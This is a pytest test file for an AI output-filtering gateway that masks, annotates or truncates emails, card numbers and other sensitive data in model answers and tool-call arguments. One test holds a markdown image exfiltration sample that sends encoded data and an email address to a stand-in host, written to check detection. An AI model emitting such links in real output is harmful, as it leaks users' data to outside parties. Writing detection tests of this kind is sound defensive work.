"""What the policy says of answers, and what one text becomes under it."""

import json

import pytest

from proxy.outflows import answer_rules, exchange_of, output_filter, section
from sallyport.decision import Kind, Mode
from sallyport.exchange import Surface
from sallyport.policy.load import parse_policy
from sallyport.policy.output import Output, OutputAction
from sallyport.policy.problems import PolicyError
from sallyport.stages.followers import AnswerRules
from sallyport.stages.judge import Judge
from sallyport.stages.output import OutputFilter
from sallyport.stages.spelling import JsonSource
from sallyport.wire.dialects import DIALECTS

CHAT = DIALECTS["openai_chat"]
MAIL = "marta.quill@example.com"


def out(policy: str, text: str, surface: Surface = Surface.ASSISTANT, *, as_json: bool = False) -> str:
    return output_filter(policy, CHAT).whole("/t", surface, text, json=as_json)[0]


@pytest.mark.parametrize(
    ("policy", "rule", "kind", "entity", "action"),
    [
        ("pii: mask", "pii.contact.email_address", Kind.PII, "EMAIL_ADDRESS", "mask"),
        ("pii: mask", "pii.contact.url", Kind.PII, "URL", "allow"),
        ("entities: {URL: observe}", "pii.contact.url", Kind.PII, "URL", "observe"),
        ("entities: {IBAN_CODE: refuse}", "pii.finance.iban", Kind.PII, "IBAN_CODE", "refuse"),
        ("rules: {pii.*: mask, pii.finance.*: truncate}", "pii.finance.iban", Kind.PII, "IBAN_CODE", "truncate"),
        ("pii: mask", "output.exfiltration.x", Kind.OUTPUT, "X", "mask"),
        ("rules: {output.*: observe}", "output.exfiltration.x", Kind.OUTPUT, "X", "observe"),
        ("pii: mask", "output.words.x", Kind.OUTPUT, "X", "allow"),
        ("unlisted: annotate", "output.commands.x", Kind.OUTPUT, "X", "annotate"),
        ("leak: {action: truncate}", "output.leak.system_prompt", Kind.OUTPUT, "X", "truncate"),
    ],
)  # fmt: skip
def test_the_most_specific_word_decides(policy: str, rule: str, kind: Kind, entity: str, action: str) -> None:
    assert section(policy).action(rule, kind, entity) == action


def test_a_key_that_is_none_is_an_error_with_its_line() -> None:
    with pytest.raises(PolicyError, match="nothing"):
        parse_policy("version: 1\noutput: {nothing: mask}\n")
    with pytest.raises(PolicyError, match="must"):
        parse_policy("version: 1\noutput: {tools: {arguments: [{tool: x}]}}\n")


def test_marks_notices_and_what_nobody_sees() -> None:
    assert out("pii: mask", f"Write to {MAIL} soon.") == "Write to [EMAIL_ADDRESS] soon."
    noticed = out("pii: annotate", f"Write to {MAIL} soon.")
    assert noticed == f"Write to {MAIL} [gateway: pii.contact.email_address] soon."
    assert out("pii: observe", "a\u001b[31mred\u001b[0m b") == "ared b"


def test_reasoning_and_arguments_are_not_annotated_and_reasoning_is_not_masked() -> None:
    text = f"Write to {MAIL} soon."
    assert out("pii: mask", text, Surface.REASONING) == text
    assert out("pii: annotate", text, Surface.TOOL_CALL) == text
    assert out("pii: truncate", text, Surface.REASONING) == "Write to "


@pytest.mark.parametrize(
    ("value", "got"),
    [
        ({"to": MAIL}, {"to": "[EMAIL_ADDRESS]"}),
        ({"to": f'"{MAIL}"\n'}, {"to": '"[EMAIL_ADDRESS]"\n'}),
        ({"card": 4111111111111111, "n": 3}, {"card": "[CREDIT_CARD]", "n": 3}),
        ({"a": "\\", "to": MAIL}, {"a": "\\", "to": "[EMAIL_ADDRESS]"}),
    ],
)
def test_arguments_stay_json(value: dict, got: dict) -> None:
    for ascii_only in (True, False):
        source = json.dumps(value, ensure_ascii=ascii_only)
        assert json.loads(out("pii: mask", source, Surface.TOOL_CALL, as_json=True)) == got


def test_a_marker_never_takes_away_what_holds_json_together() -> None:
    source = '{"a": "one", "b": "two"}'
    spelling = JsonSource()
    said = spelling.feed(source) + spelling.end()
    start, end = said.index("ne"), said.index("wo")
    assert json.loads(spelling.take(start) + spelling.replaced(end, 'x"y') + spelling.rest()) == {
        "a": 'ox"y',
        "": "wo",
    }


def test_an_exclusion_accepts_a_finding_where_its_condition_holds() -> None:
    keys = "pii: mask, exclusions: [{rule: pii.contact.*, when: \"principal.id == '%s'\", why: ours}]"
    for who, expected in (("ada", f"to {MAIL} it"), ("bob", "to [EMAIL_ADDRESS] it")):
        policy = parse_policy(f"version: 1\noutput: {{{keys % who}}}\n").output
        judge = Judge(policy, exchange_of(CHAT))
        looked = OutputFilter(policy, judge, answer_rules().of(policy, 4096))
        assert looked.whole("/t", Surface.ASSISTANT, f"to {MAIL} it")[0] == expected
        assert looked.decision() is not None


def test_of_matches_that_overlap_the_most_severe_action_holds() -> None:
    image = f"![x](https://ex.example/p?d=aGVsbG8gd29ybGQgdGhpcyBpcyBsb25nIGVub3VnaA&to={MAIL})"
    assert out("pii: observe", f"See {image} now.").startswith("See ![x]([removed: output.exfiltration.")
    policy = "entities: {EMAIL_ADDRESS: truncate}"
    text, stop = output_filter(policy, CHAT).whole("/t", Surface.ASSISTANT, f"See {image} now.")
    assert text == "See ![x]("
    assert stop is not None
    assert stop.action is OutputAction.TRUNCATE


def test_what_has_waited_too_long_goes_out_unless_it_is_a_match() -> None:
    channel = output_filter("pii: mask", CHAT).channel("c", Surface.ASSISTANT)
    assert channel.feed("You have 12") == "You have "
    assert channel.let_go() == "12"
    assert channel.feed(" pears. The card is 4111 1111 1111 1111") == " pears. The card is "
    assert channel.let_go() == ""
    assert channel.feed(" thanks. ") + channel.end() == "[CREDIT_CARD] thanks. "


def test_a_match_that_goes_on_behind_what_was_let_go_begins_there() -> None:
    channel = output_filter("pii: mask", CHAT).channel("c", Surface.ASSISTANT)
    assert channel.feed("The card is 4111 1111") == "The card is "
    assert channel.let_go() == "4111 1111"
    assert channel.feed(" 1111 1111 thanks") + channel.end() == "[CREDIT_CARD] thanks"


def test_an_answer_that_holds_nothing_has_no_decision() -> None:
    looked = output_filter("pii: mask", CHAT)
    assert looked.whole("/t", Surface.ASSISTANT, "Nothing here.")[0] == "Nothing here."
    assert looked.decision() is None


def test_observing_looks_and_changes_nothing() -> None:
    looked = output_filter("pii: refuse", CHAT, enforced=False)
    assert not looked.acts
    assert looked.whole("/t", Surface.ASSISTANT, MAIL) == (MAIL, None)
    decision = looked.decision()
    assert decision is not None
    assert (decision.mode, decision.reason) == (Mode.OBSERVE, "output.refused")


def test_nothing_is_watched_where_nothing_is_asked() -> None:
    policy: Output = section("pii: allow; secrets: allow; unlisted: allow; rules: {output.*: allow}")
    assert AnswerRules(None).of(policy, 4096)(Surface.ASSISTANT, "") == []
    assert answer_rules().of(policy, 4096)(Surface.ASSISTANT, "") == []
